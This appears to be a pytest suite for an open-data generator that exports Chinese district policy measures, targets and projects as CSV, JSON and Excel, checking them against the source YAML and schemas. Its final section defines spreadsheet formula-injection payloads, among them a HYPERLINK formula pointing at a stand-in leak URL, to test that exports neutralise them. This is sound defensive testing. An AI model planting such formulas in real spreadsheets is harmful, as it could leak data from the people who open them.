"""The downloads agree with the data: every file is checked against the YAML read again here with
PyYAML's BaseLoader (every scalar a string; none of the generator's loading, models or index),
against the built pages, and against its published schemas with independent validators."""
from __future__ import annotations

import copy
import csv
import io
import json
import re
import shutil
import subprocess
import sys
import zipfile
from collections import defaultdict
from decimal import Decimal
from pathlib import Path

import jsonschema
import openpyxl
import pytest
import yaml

from generator.opendata.output import files
from generator.opendata.tables import TABLES

ROOT = Path(__file__).resolve().parent.parent
DATA = ROOT / "site_data"
FIXTURE = ROOT / "tests" / "fixtures" / "corpus"
V1 = "data/v1"
GAP = "…"


# ------------------------------------------------------------------ ground truth from the YAML


def load(path: Path):
    return yaml.load(path.read_text(encoding="utf-8"), Loader=yaml.BaseLoader)


def null(value):
    return None if value in (None, "null", "~", "") else value


def printed(quote):
    return quote["printed"] if isinstance(quote, dict) else quote


class Truth:
    """What the YAML says, keyed the way the downloads are."""

    def __init__(self) -> None:
        self.departments = {a: d["slug"] for d in load(DATA / "departments.yaml")["departments"] for a in d["aliases"]}
        self.theme_names = {t["slug"]: t["name"] for t in load(DATA / "themes.yaml")["themes"]}
        self.docs = {}
        self.measures = {}  # id -> (doc, measure)
        self.sources = {}
        for path in sorted((DATA / "documents").glob("*/*.yaml")):
            doc = load(path)
            self.docs[doc["id"]] = doc
            lines = (DATA / "sources" / doc["source"]["file"]).read_text(encoding="utf-8").splitlines()
            self.sources[doc["id"]] = [line.strip() for line in lines if line.strip()]
            for m in doc["measures"]:
                self.measures[f"{doc['id']}/{m['id']}"] = (doc, m)

    def units(self, m) -> list[tuple[str, str, str]]:
        """(role, printed unit, department slug) in printed order."""
        r = m.get("responsibility", {})
        out = []
        for role in ("lead", "support", "joint"):
            for u in r.get(role, []):
                name = u["reading"] if isinstance(u, dict) else u
                out.append((role, printed(u), self.departments[name]))
        return out

    def scope_ids(self, kind: str, slug: str) -> list[str]:
        keep = {
            "districts": lambda doc, m: doc["district"] == slug,
            "documents": lambda doc, m: doc["id"] == slug,
            "themes": lambda doc, m: slug in m["themes"],
            "departments": lambda doc, m: any(d == slug for _, _, d in self.units(m)),
        }[kind]
        return [key for key, (doc, m) in self.measures.items() if keep(doc, m)]


@pytest.fixture(scope="module")
def truth() -> Truth:
    return Truth()


@pytest.fixture(scope="module")
def downloads(real_index) -> dict[str, bytes]:
    return dict(files(real_index))


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 byte-order mark"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_json(data: bytes) -> list[dict]:
    """The rows of a JSON download ({"columns": [...], "data": [[...], ...]}) as dicts."""
    table = json.loads(data.decode("utf-8"))
    assert list(table) == ["columns", "data"]
    return [dict(zip(table["columns"], row, strict=True)) for row in table["data"]]


def as_csv_text(value) -> str:
    """What a CSV field must hold for a JSON value: text a spreadsheet would read as a formula
    (starting with = + - @, tab or carriage return, OWASP, and more than that one character)
    behind a single quote."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r") and len(value) > 1:
        return "'" + value
    return str(value)


def same_number(text: str, value) -> bool:
    return Decimal(text) == Decimal(str(value))


# ------------------------------------------------------------------ the whole-site files


def test_every_measure_is_one_row_with_its_printed_words_and_units(downloads, truth):
    rows = {r["id"]: r for r in read_csv(downloads[f"{V1}/measures.csv"])}
    assert set(rows) == set(truth.measures)
    for key, (doc, m) in truth.measures.items():
        r = rows[key]
        assert r["document"] == doc["id"] and r["district"] == doc["district"]
        assert r["doc_number"] == (null(doc.get("doc_number")) or "")
        assert r["number"] == m.get("number", "")
        assert r["kind"] == m["kind"]
        assert r["text"] == printed(m["text"])
        assert r["title"] == (printed(m["title"]) if null(m.get("title")) else "")
        units = truth.units(m)
        for role in ("lead", "support", "joint"):
            assert r[f"{role}_units"] == "；".join(u for rl, u, _ in units if rl == role), (key, role)
        assert r["theme_ids"].split() == m["themes"]
        assert r["themes"] == "；".join(truth.theme_names[t] for t in m["themes"])
        assert r["target_count"] == str(len(m.get("targets", [])))
        assert re.fullmatch(rf"/documents/{doc['id']}/(\d+/)?#{m['id']}", r["site_url"]), r["site_url"]
        # the stable address: the document's own page, which sends #id on to the part that holds it
        assert r["permalink"] == f"/documents/{doc['id']}/#{m['id']}"
        assert r["number_reading"] == (null(m.get("number_reading")) or "")
    assert any(r["number_reading"] for r in rows.values()), "the OCR copy's damaged numbers have readings"


def test_every_row_cites_its_item_exactly_as_its_card_does(downloads, truth, real_index):
    """A user test: a researcher had to open each item's page to copy its citation. Every row of the
    measures, targets, projects and units tables carries the citation its item's card shows (and its
    复制 button copies), read from the rendered document pages."""
    from tests.test_citation import citations

    shown = citations(real_index)
    for name, key in (("measures", "id"), ("targets", "measure"), ("projects", "measure"), ("units", "measure")):
        rows = read_csv(downloads[f"{V1}/{name}.csv"])
        assert rows, name
        for r in rows:
            doc_id, measure_id = r[key].split("/")
            assert [r["citation"]] == shown[(doc_id, measure_id)], (name, r[key])
            assert r["permalink"] == f"/documents/{doc_id}/#{measure_id}", (name, r[key])
    cited = {r["citation"] for r in read_csv(downloads[f"{V1}/measures.csv"])}
    assert "黔江府发〔2022〕24号 二、（一）2." in cited  # a damaged number cited by its reading


def test_every_target_keeps_its_value_and_clause(downloads, truth):
    rows = defaultdict(list)
    for r in read_csv(downloads[f"{V1}/targets.csv"]):
        rows[r["measure"]].append(r)
    expected_total = 0
    for key, (_doc, m) in truth.measures.items():
        targets = m.get("targets", [])
        expected_total += len(targets)
        assert len(rows[key]) == len(targets), key
        for t, r in zip(targets, rows[key], strict=True):
            assert r["metric"] == t["metric"]
            assert r["clause"] == printed(t["clause"])
            value = null(t.get("value"))
            assert (r["value"] == "") if value is None else same_number(r["value"], value)
            assert r["unit"] == t.get("unit", "")
            assert r["target_year"] == (null(t.get("target_year")) or "")
            assert r["set_by_municipality"] == t.get("set_by_municipality", "false")
    assert sum(len(v) for v in rows.values()) == expected_total


def test_every_project_has_name_period_investment_and_funding(downloads, truth):
    rows = {r["measure"]: r for r in read_csv(downloads[f"{V1}/projects.csv"])}
    projects = {k: (doc, m) for k, (doc, m) in truth.measures.items() if m["kind"] == "project"}
    assert set(rows) == set(projects) and projects
    totals: dict[str, Decimal] = defaultdict(Decimal)
    for key, (doc, m) in projects.items():
        p, r = m["project"], rows[key]
        assert (r["name"], r["category"], r["period_printed"]) == (p["name"], p["category"], p["period_printed"])
        assert (r["start_year"], r["end_year"]) == (p["start_year"], p["end_year"])
        inv = p["investment"]
        assert same_number(r["investment_total"], inv["total"])
        # the three funding columns hold only what the source prints: where the editor allocated the
        # numbers (columns_uncertain), the allocation is in the *_estimate columns and nowhere else
        guessed = inv.get("columns_uncertain") == "true"
        assert r["funding_uncertain"] == ("true" if guessed else "false")
        for column in ("superior", "district_fiscal", "social"):
            value = null(inv.get(column))
            printed, estimate = r[f"investment_{column}"], r[f"investment_{column}_estimate"]
            if guessed:
                printed, estimate = estimate, printed
            assert estimate == "", (key, column)
            assert (printed == "") if value is None else same_number(printed, value)
        assert r["investment_printed"] == inv["printed"]
        totals[doc["id"]] += Decimal(r["investment_total"])
    # the column sums to the printed 合计 within the rounding the document notes (0.04 万元 in 铜梁's table)
    for doc_id, total in totals.items():
        printed_total = Decimal(truth.docs[doc_id]["project_total"]["total"])
        assert abs(total - printed_total) <= Decimal("0.05"), (doc_id, total, printed_total)


def test_one_unit_row_per_measure_unit_and_role(downloads, truth):
    rows = defaultdict(list)
    for r in read_csv(downloads[f"{V1}/units.csv"]):
        rows[r["measure"]].append((r["role"], r["unit_printed"], r["department"]))
    for key, (_doc, m) in truth.measures.items():
        assert rows.get(key, []) == truth.units(m), key


MAIN_TEXT = ("goal", "measure", "safeguard")


def test_rows_name_the_measures_they_implement_and_the_rows_implementing_them(downloads, truth):
    implements = {}
    implemented_by: dict[str, list[str]] = defaultdict(list)
    for key, (doc, m) in truth.measures.items():  # printed order, as in the YAML
        targets = [f"{doc['id']}/{mid}" for mid in m.get("implements", [])]
        implements[key] = " ".join(targets)
        for t in targets:
            implemented_by[t].append(key)
    assert any(implements.values()), "the corpus links table rows to main-text measures"
    for r in read_csv(downloads[f"{V1}/measures.csv"]):
        assert r["implements"] == implements[r["id"]], r["id"]
        assert r["implemented_by"] == " ".join(implemented_by.get(r["id"], [])), r["id"]
    for name in ("targets", "projects"):
        rows = read_csv(downloads[f"{V1}/{name}.csv"])
        assert rows and all(r["implements"] == implements[r["measure"]] for r in rows)
    # counting distinct measures as the site does: rows that implement nothing
    site = sum(1 for r in read_csv(downloads[f"{V1}/measures.csv"]) if not r["implements"])
    assert site == sum(1 for v in implements.values() if not v)


def test_restated_targets_share_the_id_of_their_first_statement(downloads, truth):
    """Same district, metric, value (or 市级下达), unit and target year in two items: one target,
    counted once. Equal targets of one item stay apart; the n-th joins the n-th of another item."""
    groups: dict[tuple, list[str]] = defaultdict(list)
    kind_of = {}
    for key, (doc, m) in truth.measures.items():
        in_item: dict[tuple, int] = defaultdict(int)
        for n, t in enumerate(m.get("targets", []), start=1):
            same = (doc["district"], t["metric"], null(t.get("value")), t.get("set_by_municipality", "false"),
                    t.get("unit", ""), null(t.get("target_year")))
            groups[same + (in_item[same],)].append(f"{key}/t{n}")
            in_item[same] += 1
            kind_of[f"{key}/t{n}"] = m["kind"]
    rows = {r["id"]: r for r in read_csv(downloads[f"{V1}/targets.csv"])}
    assert set(rows) == set(kind_of)
    assert any(len(ids) > 1 for ids in groups.values()), "the corpus restates some targets"
    for ids in groups.values():
        first = {rows[i]["distinct_target"] for i in ids}
        assert len(first) == 1 and first <= set(ids), ids
        if any(kind_of[i] in MAIN_TEXT for i in ids):
            assert kind_of[first.pop()] in MAIN_TEXT, ids
    assert len({r["distinct_target"] for r in rows.values()}) == len(groups)


def test_every_table_carries_the_same_provenance_fields(downloads):
    from generator.opendata.tables import MEASURE_TABLES, PROVENANCE

    first = TABLES[0].row.model_fields
    for table in MEASURE_TABLES:  # the documents table is the documents themselves
        fields = table.row.model_fields
        for name in PROVENANCE:
            same = (fields[name].annotation, fields[name].title, fields[name].description)
            assert same == (first[name].annotation, first[name].title, first[name].description), (table.name, name)
        header = read_csv(downloads[f"{V1}/{table.name}.csv"])[0]
        assert set(PROVENANCE) <= set(header)


def test_source_links_point_at_the_paragraph_where_the_clause_starts(downloads, truth):
    for name, clause_field in (("measures", "text"), ("targets", "clause")):
        for r in read_csv(downloads[f"{V1}/{name}.csv"]):
            assert re.fullmatch(rf"/sources/{r['document']}/(\d+/)?#p{r['source_paragraph']}", r["source_url"])
            paragraph = truth.sources[r["document"]][int(r["source_paragraph"]) - 1]
            start = r[clause_field].split(GAP)[0][:12]
            assert start in paragraph, (r.get("id"), start, paragraph[:60])


# ------------------------------------------------------------------ per-page files


def page_scopes(truth):
    yield "districts", sorted({d["district"] for d in truth.docs.values()})
    yield "documents", sorted(truth.docs)
    yield "themes", sorted(truth.theme_names)
    yield "departments", sorted(set(truth.departments.values()))


def test_each_page_download_holds_exactly_that_pages_rows(downloads, truth):
    checked = 0
    for kind, slugs in page_scopes(truth):
        for slug in slugs:
            ids = truth.scope_ids(kind, slug)
            measures = read_csv(downloads[f"{V1}/{kind}/{slug}-measures.csv"])
            assert sorted(r["id"] for r in measures) == sorted(ids), (kind, slug)
            targets = read_csv(downloads[f"{V1}/{kind}/{slug}-targets.csv"])
            expected_targets = [t["clause"] for k in ids for t in truth.measures[k][1].get("targets", [])]
            assert sorted(r["clause"] for r in targets) == sorted(printed(c) for c in expected_targets), (kind, slug)
            units = read_csv(downloads[f"{V1}/{kind}/{slug}-units.csv"])
            expected = [(k, u) for k in ids for u in truth.units(truth.measures[k][1])]
            found = [(r["measure"], (r["role"], r["unit_printed"], r["department"])) for r in units]
            assert sorted(found) == sorted(expected)
            checked += 1
    assert checked > 50


@pytest.mark.slow
def test_csv_json_and_xlsx_carry_the_same_rows_for_every_page(downloads, truth):
    workbooks = sorted(p for p in downloads if p.endswith(".xlsx"))
    expected = [f"{V1}/all.xlsx"] + [f"{V1}/{kind}/{slug}.xlsx" for kind, slugs in page_scopes(truth) for slug in slugs]
    assert workbooks == sorted(expected)
    for path in workbooks:
        wb = openpyxl.load_workbook(io.BytesIO(downloads[path]), read_only=True)
        base = path.removesuffix(".xlsx").removesuffix("all").rstrip("/")
        for table in TABLES:
            stem = f"{base}/{table.name}" if base == V1 else f"{base}-{table.name}"
            from_csv = read_csv(downloads[f"{stem}.csv"])
            from_json = read_json(downloads[f"{stem}.json"])
            sheet = list(wb[table.sheet].iter_rows(values_only=True))
            names = [h.split(" ")[-1] for h in sheet[0]]
            assert names == list(from_csv[0].keys()) if from_csv else True
            assert len(sheet) - 1 == len(from_csv) == len(from_json)
            for values, c, j in zip(sheet[1:], from_csv, from_json, strict=True):
                for name, cell in zip(names, values, strict=True):
                    text = c[name]
                    if cell is None:
                        assert text == "" and j[name] is None
                    elif isinstance(cell, bool):
                        assert text == str(cell).lower() and j[name] is cell
                    elif isinstance(cell, (int, float)):
                        assert same_number(text, cell) and same_number(text, j[name])
                    else:
                        assert text == as_csv_text(cell) and cell == j[name]


def test_workbooks_have_frozen_bilingual_headers_widths_and_no_formulas(downloads):
    wb = openpyxl.load_workbook(io.BytesIO(downloads[f"{V1}/all.xlsx"]))
    for table in TABLES:
        ws = wb[table.sheet]
        assert ws.freeze_panes == "A2"
        header = [c.value for c in ws[1]]
        for name, label in zip(table.row.model_fields, header, strict=True):
            assert label == f"{table.row.model_fields[name].title} {name}"
        assert "牵头单位 lead_units" in header or table.name in ("targets", "units", "documents")
        widths = [ws.column_dimensions[openpyxl.utils.get_column_letter(i)].width for i in range(1, len(header) + 1)]
        assert all(8 <= w <= 62 for w in widths)
        assert any(w >= 40 for w in widths), f"{table.name}: a text column should be wide"
        assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    assert "说明 about" in wb.sheetnames


def test_every_sheet_states_its_size_and_has_a_bold_filtered_header(downloads):
    """A reader that sizes a sheet before reading it (Excel's preview, LibreOffice's import, openpyxl
    read-only) finds the used range in the sheet's <dimension>, placed where the schema wants it
    (after sheetPr, before sheetViews); the header row is bold and the filter covers exactly the rows."""
    workbooks = sorted(p for p in downloads if p.endswith(".xlsx"))
    for path in workbooks:
        base = path.removesuffix(".xlsx").removesuffix("all").rstrip("/")
        wb = openpyxl.load_workbook(io.BytesIO(downloads[path]), read_only=True)
        with zipfile.ZipFile(io.BytesIO(downloads[path])) as z:
            parts = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")}
        for n, table in enumerate(TABLES, start=1):
            stem = f"{base}/{table.name}" if base == V1 else f"{base}-{table.name}"
            rows = len(read_csv(downloads[f"{stem}.csv"])) + 1  # with the header
            columns = len(table.row.model_fields)
            ws = wb[table.sheet]
            assert (ws.max_row, ws.max_column) == (rows, columns), (path, table.name)
            last = openpyxl.utils.get_column_letter(columns)
            xml = parts[f"xl/worksheets/sheet{n}.xml"]
            assert re.search(rf'</sheetPr><dimension ref="A1:{last}{rows}"/><sheetViews>', xml), (path, table.name)
            assert f'<autoFilter ref="A1:{last}{rows}"/>' in xml, (path, table.name)
        about = wb["说明 about"]
        assert about.max_column == 2 and about.max_row == len(list(about.iter_rows())) > 5
    wb = openpyxl.load_workbook(io.BytesIO(downloads[f"{V1}/themes/energy.xlsx"]))
    for table in TABLES:
        ws = wb[table.sheet]
        assert all(c.font.b for c in ws[1]), table.name
        assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(ws.max_column)}{ws.max_row}"


@pytest.fixture(scope="module")
def docs(tmp_path_factory) -> Path:
    from tests.conftest import build_docs

    out = tmp_path_factory.mktemp("docs")
    build_docs(DATA, out)
    return out


def markdown_of(docs: Path, site_path: str) -> str:
    """The generated Markdown of a site address (/documents/x/2/#m1 → documents/x/2.md)."""
    page = site_path.split("#")[0].strip("/")
    return (docs / (page + ".md")).read_text(encoding="utf-8")


@pytest.mark.slow
def test_site_and_source_links_lead_to_their_anchors(downloads, docs):
    pages: dict[str, str] = {}
    for name in ("measures", "targets", "units"):
        for r in read_csv(downloads[f"{V1}/{name}.csv"]):
            for url in (r["site_url"], r["source_url"]):
                page, anchor = url.split("#")
                text = pages.setdefault(page, markdown_of(docs, page))
                assert f"#{anchor} " in text or f"#{anchor}}}" in text, url


@pytest.mark.slow
def test_pages_link_their_downloads_with_the_counts_the_files_hold(docs, downloads):
    tmp_path = docs
    pages = {"districts": "districts/{}.md", "documents": "documents/{}.md", "themes": "themes/{}.md",
             "departments": "departments/{}.md"}
    for kind, _pattern in pages.items():
        for page in sorted((tmp_path / kind).glob("*.md")):
            if page.name == "index.md":
                continue
            slug = page.stem
            text = page.read_text(encoding="utf-8")
            line = next(x for x in text.splitlines() if x.startswith("**下载本页数据**"))
            for table in TABLES:
                rows = read_csv(downloads[f"{V1}/{kind}/{slug}-{table.name}.csv"])
                assert f"{table.title} {len(rows):,} 行" in line, (kind, slug, table.name)
                # a table without rows is counted, not offered (its files, a header alone, stay for scripts)
                for suffix in ("csv", "json"):
                    assert (f"../data/v1/{kind}/{slug}-{table.name}.{suffix}" in line) == bool(rows), (kind, slug, table.name)
            assert f"../data/v1/{kind}/{slug}.xlsx" in line
            if kind == "districts":
                total = int(re.search(r"收录的条目共 ([\d,]+) 条", text).group(1).replace(",", ""))
                assert total == len(read_csv(downloads[f"{V1}/{kind}/{slug}-measures.csv"]))
    for path in downloads:
        assert (tmp_path / path).is_file()


# ------------------------------------------------------------------ schemas, package, stability


def test_every_json_file_validates_against_its_published_schema(downloads):
    from generator.opendata.tables import REGISTRY_TABLES

    validators = {t.name: jsonschema.Draft202012Validator(json.loads(downloads[f"{V1}/schemas/{t.name}.schema.json"]))
                  for t in (*TABLES, *REGISTRY_TABLES)}
    for schema in validators.values():
        jsonschema.Draft202012Validator.check_schema(schema.schema)
    checked = 0
    for path, data in downloads.items():
        match = re.fullmatch(rf"{V1}/(?:.+[/-])?({'|'.join(validators)})\.json", path)
        if match:
            validators[match.group(1)].validate(json.loads(data))
            checked += 1
    # every table for each page and the site, and the registries once
    assert checked == len(TABLES) * len([p for p in downloads if p.endswith(".xlsx")]) + len(REGISTRY_TABLES)
    # and the schema is strict enough to catch a wrong row
    targets = json.loads(downloads[f"{V1}/targets.json"])
    bad = copy.deepcopy(targets)
    bad["data"][0][targets["columns"].index("value")] = "16%"
    with pytest.raises(jsonschema.ValidationError):
        validators["targets"].validate(bad)
    short = copy.deepcopy(targets)
    short["data"][0].pop()
    with pytest.raises(jsonschema.ValidationError):
        validators["targets"].validate(short)
    renamed = copy.deepcopy(targets)
    renamed["columns"][0] = "target_id"
    with pytest.raises(jsonschema.ValidationError):
        validators["targets"].validate(renamed)
    extra = copy.deepcopy(json.loads(downloads[f"{V1}/units.json"]))
    extra["data"][0].append(1)
    with pytest.raises(jsonschema.ValidationError):
        validators["units"].validate(extra)


def frictionless(package: Path) -> subprocess.CompletedProcess:
    tool = Path(sys.executable).parent / "frictionless"
    return subprocess.run([str(tool), "validate", "--json", str(package)], capture_output=True, text=True)


def write(files_: dict[str, bytes], out: Path) -> None:
    for path, data in files_.items():
        target = out / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)


@pytest.mark.slow
def test_the_data_package_validates_with_frictionless(tmp_path, downloads):
    write(downloads, tmp_path)
    package = tmp_path / V1 / "datapackage.json"
    descriptor = json.loads(package.read_text(encoding="utf-8"))
    described = {r["path"] for r in descriptor["resources"]}
    on_disk = {p.relative_to(tmp_path / V1).as_posix() for p in (tmp_path / V1).rglob("*")
               if p.is_file() and p.suffix in (".csv", ".json", ".xlsx") and "schemas/" not in p.as_posix()}
    assert described == on_disk - {"datapackage.json"}
    result = frictionless(package)
    report = json.loads(result.stdout)
    assert result.returncode == 0 and report["valid"], result.stdout[-3000:]
    assert len(report["tasks"]) == len(descriptor["resources"])


@pytest.mark.slow
def test_frictionless_notices_a_changed_file(tmp_path, downloads):
    write(downloads, tmp_path)
    package = tmp_path / V1 / "datapackage.json"
    descriptor = json.loads(package.read_text(encoding="utf-8"))
    kept = ("targets-csv", "targets-xlsx", "measures-csv", "documents-csv", "metrics-csv")  # and what they point to
    descriptor["resources"] = [r for r in descriptor["resources"] if r["name"] in kept]
    package.write_text(json.dumps(descriptor, ensure_ascii=False), encoding="utf-8")
    assert frictionless(package).returncode == 0
    csv_path = tmp_path / V1 / "targets.csv"
    csv_path.write_bytes(csv_path.read_bytes().replace(b"2025", "二〇二五".encode(), 1))
    assert frictionless(package).returncode != 0


def test_two_runs_give_identical_bytes(downloads, real_index):
    assert dict(files(real_index)) == downloads


def test_legacy_addresses_serve_the_v1_files(downloads):
    assert downloads["data/measures.json"] == downloads[f"{V1}/measures.json"]
    assert downloads["data/targets.json"] == downloads[f"{V1}/targets.json"]


# ------------------------------------------------------------------ formula injection

# Editors' notes (free text, not checked against a source) that a spreadsheet would run as formulas.
HOSTILE = {
    "measure": '=HYPERLINK("https://example.invalid/?leak","点此")',
    "target": "+3+4",
    "support": "-5+6",
    "at": "@SUM(1;1)",
    "tab": "\t=7+8",
}


def hostile_corpus(out: Path) -> Path:
    """The fixture corpus with notes that start like formulas (=, +, -, @, tab)."""
    shutil.copytree(FIXTURE, out)
    doc = out / "documents" / "jiangjin" / "jiangjin-test.yaml"
    text = doc.read_text(encoding="utf-8")
    for old, new in (
        ("    title: 协同开发油气资源。\n", f"    title: 协同开发油气资源。\n    note: '{HOSTILE['measure']}'\n"),
        ("        target_year: 2025\n", f"        target_year: 2025\n        note: '{HOSTILE['target']}'\n"),
        ("    title: 建设充电设施。\n", f"    title: 建设充电设施。\n    note: '{HOSTILE['support']}'\n"),
        ("    title: 行动目标。\n", f"    title: 行动目标。\n    note: '{HOSTILE['at']}'\n"),
    ):
        assert old in text
        text = text.replace(old, new, 1)
    doc.write_text(text, encoding="utf-8")
    other = out / "documents" / "qianjiang" / "qianjiang-test.yaml"
    text = other.read_text(encoding="utf-8")
    old = "    text: 推进天然气综合利用。\n"
    assert old in text
    other.write_text(text.replace(old, old + '    note: "\\t=7+8"\n', 1), encoding="utf-8")
    return out


@pytest.fixture(scope="module")
def hostile_downloads(tmp_path_factory) -> dict[str, bytes]:
    from generator.pipeline import index_data

    return dict(files(index_data(hostile_corpus(tmp_path_factory.mktemp("hostile") / "corpus"))))


def test_text_that_looks_like_a_formula_is_quoted_in_csv_and_kept_as_text_elsewhere(hostile_downloads):
    notes = [r["note"] for r in read_csv(hostile_downloads[f"{V1}/measures.csv"]) if r["note"]]
    notes += [r["note"] for r in read_csv(hostile_downloads[f"{V1}/targets.csv"]) if r["note"]]
    assert sorted(notes) == sorted("'" + v for v in HOSTILE.values())
    json_notes = [r["note"] for name in ("measures", "targets")
                  for r in read_json(hostile_downloads[f"{V1}/{name}.json"]) if r["note"]]
    assert sorted(json_notes) == sorted(HOSTILE.values())
    for path in (f"{V1}/all.xlsx", f"{V1}/districts/jiangjin.xlsx", f"{V1}/themes/energy.xlsx"):
        wb = openpyxl.load_workbook(io.BytesIO(hostile_downloads[path]))
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
        assert not any(c.data_type == "f" for c in cells), path
        texts = {c.value for c in cells if c.data_type == "s"}
        assert set(HOSTILE.values()) - {HOSTILE["tab"]} <= texts, path  # the tab note is qianjiang's
        with zipfile.ZipFile(io.BytesIO(hostile_downloads[path])) as z:
            assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist()), path


def test_only_text_a_spreadsheet_could_run_is_quoted():
    from generator.opendata.formats import csv_text

    for text in ("=1+1", "+86 23", "-5", "@A1", "\t=1", "\r=1", "-—"):
        assert csv_text(text) == "'" + text
    for text in ("=", "-", "+", "@", "≥", "’=1", " =1", "江津区", ""):
        assert csv_text(text) == text
    assert csv_text(-5) == "-5" and csv_text(-5.5) == "-5.5"  # numbers are numbers, never quoted


def test_every_field_is_described_in_chinese():
    """The downloads page, the spreadsheets' 说明 sheet and the data package describe each field
    from these models: on a Chinese site every description is Chinese (field names and codes aside)."""
    import re

    from generator.opendata.tables import REGISTRY_TABLES, TABLES

    english = [(t.name, name, f.description) for t in (*TABLES, *REGISTRY_TABLES) for name, f in t.row.model_fields.items()
               if not re.search(r"[\u4e00-\u9fff]", f.description or "")
               or re.search(r"[A-Za-z]{3,}[ ,]+[A-Za-z]{2,}[ ,]+[A-Za-z]{2,}", f.description or "")]
    assert english == []


def test_column_letters_are_openpyxls():
    """formats.column_letter names columns as openpyxl does (A … Z, AA …, the last column XFD),
    without importing openpyxl where no workbook is made."""
    import openpyxl

    from generator.opendata.formats import column_letter

    assert [column_letter(n) for n in range(1, 16385)] == [openpyxl.utils.get_column_letter(n) for n in range(1, 16385)]


# ------------------------------------------------------------------ what a reader could misread (a researcher's test)


def sheet_rows(data: bytes, sheet: str) -> list[tuple]:
    import openpyxl

    return list(openpyxl.load_workbook(io.BytesIO(data), read_only=True)[sheet].iter_rows(values_only=True))


def test_guessed_funding_splits_are_apart_from_printed_ones(downloads, truth):
    """A split the editor allocated (columns_uncertain) is never in the printed funding columns,
    in CSV or in the workbook: summing 上级资金 gives printed figures only."""
    projects = {k: m["project"]["investment"] for k, (_, m) in truth.measures.items() if m["kind"] == "project"}
    guessed = {k for k, inv in projects.items() if inv.get("columns_uncertain") == "true"}
    assert len(guessed) >= 41  # 铜梁's flattened table (the researcher counted 41 of 45)
    rows = sheet_rows(downloads[f"{V1}/all.xlsx"], "重点项目 projects")
    header = [h.split(" ")[-1] for h in rows[0]]
    for row in rows[1:]:
        r = dict(zip(header, row, strict=True))
        inv = projects[r["measure"]]
        for column in ("superior", "district_fiscal", "social"):
            value = null(inv.get(column))
            printed_, estimate = r[f"investment_{column}"], r[f"investment_{column}_estimate"]
            if r["measure"] in guessed:
                assert printed_ is None and (estimate is None if value is None else Decimal(str(estimate)) == Decimal(value))
            else:
                assert estimate is None and (printed_ is None if value is None else Decimal(str(printed_)) == Decimal(value))
    assert "编者估分" in rows[0][header.index("investment_superior_estimate")]


def test_a_row_says_whether_it_is_a_measure_itself_and_workbooks_count_as_pages_do(downloads, truth):
    rows = {r["id"]: r for r in read_csv(downloads[f"{V1}/measures.csv"])}
    for key, (_doc, m) in truth.measures.items():  # a row that implements nothing counts as itself
        assert rows[key]["counts_itself"] == ("false" if m.get("implements") else "true"), key
    tongliang = [k for k, (doc, _) in truth.measures.items() if doc["district"] == "tongliang"]
    itself = [k for k in tongliang if not truth.measures[k][1].get("implements")]
    sheet = sheet_rows(downloads[f"{V1}/districts/tongliang.xlsx"], "条目 measures")
    flag = [h.split(" ")[-1] for h in sheet[0]].index("counts_itself")
    assert len(sheet) - 1 == len(tongliang) > len(itself) == sum(1 for row in sheet[1:] if row[flag])
    assert len(itself) == 79  # as the district page says (the researcher's count)
    for district in sorted({d["district"] for d in truth.docs.values()}):
        about = dict(sheet_rows(downloads[f"{V1}/districts/{district}.xlsx"], "说明 about"))
        assert "counts_itself" in about["怎么计数"] and "distinct_target" in about["怎么计数"]
        drafts = [d["short_title"] for d in truth.docs.values() if d["district"] == district and d["status"] == "征求意见稿"]
        for title in drafts:
            assert f"《{title}》" in about["征求意见稿"], district
        assert ("不含征求意见稿" in about["征求意见稿"]) == (not drafts), district
    assert any(d["status"] == "征求意见稿" and d["district"] == "tongliang" for d in truth.docs.values())


def test_metrics_and_themes_are_published_with_their_coding(downloads, truth):
    metrics = load(DATA / "metrics.yaml")["metrics"]
    themes = load(DATA / "themes.yaml")["themes"]
    targets = defaultdict(int)
    for _, m in truth.measures.values():
        for t in m.get("targets", []):
            targets[t["metric"]] += 1
    distinct = defaultdict(set)
    for r in read_csv(downloads[f"{V1}/targets.csv"]):
        distinct[r["metric"]].add(r["distinct_target"])
    for rows in (read_csv(downloads[f"{V1}/metrics.csv"]), read_json(downloads[f"{V1}/metrics.json"])):
        assert [r["id"] for r in rows] == [m["slug"] for m in metrics]
        for r, m in zip(rows, metrics, strict=True):
            assert (r["name"], r["direction"]) == (m["name"], m["direction"])
            assert (r["unit"] or "") == m.get("unit", "") and (r["description"] or "") == m.get("description", "")
            assert (r["aliases"] or "") == "；".join(m.get("aliases", [])) and r["theme_ids"] == " ".join(m["themes"])
            assert int(r["target_count"]) == targets[m["slug"]]
            # as the metric page counts (a user test found 7 rows against the page's 5): distinct targets
            assert int(r["distinct_target_count"]) == len(distinct[m["slug"]])
    water = next(r for r in read_csv(downloads[f"{V1}/metrics.csv"]) if "Ⅲ类" in r["description"])
    assert water["direction"] == "lower"
    rows = read_csv(downloads[f"{V1}/themes.csv"])
    assert [(r["id"], r["name"], r["description"]) for r in rows] == [(t["slug"], t["name"], t["description"]) for t in themes]
    for r in rows:
        assert r["metrics"].split() == [m["slug"] for m in metrics if r["id"] in m["themes"]]
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(downloads[f"{V1}/all.xlsx"]), read_only=True)
    assert {"指标 metrics", "主题 themes"} <= set(book.sheetnames)
    assert book["指标 metrics"].max_row == len(metrics) + 1
    package = json.loads(downloads[f"{V1}/datapackage.json"])
    names = {r["name"] for r in package["resources"]}
    assert {"metrics-csv", "metrics-json", "metrics-xlsx", "themes-csv", "themes-json", "themes-xlsx"} <= names
    assert f"{V1}/schemas/metrics.tableschema.json" in downloads


def test_the_gap_marker_is_documented_where_it_occurs(downloads, truth):
    """黔江's OCR text leaves out a page number here and there: "…" in text, title and unit names."""
    assert any("…" in printed(m["text"]) for doc, m in truth.measures.values() if doc["district"] == "qianjiang")
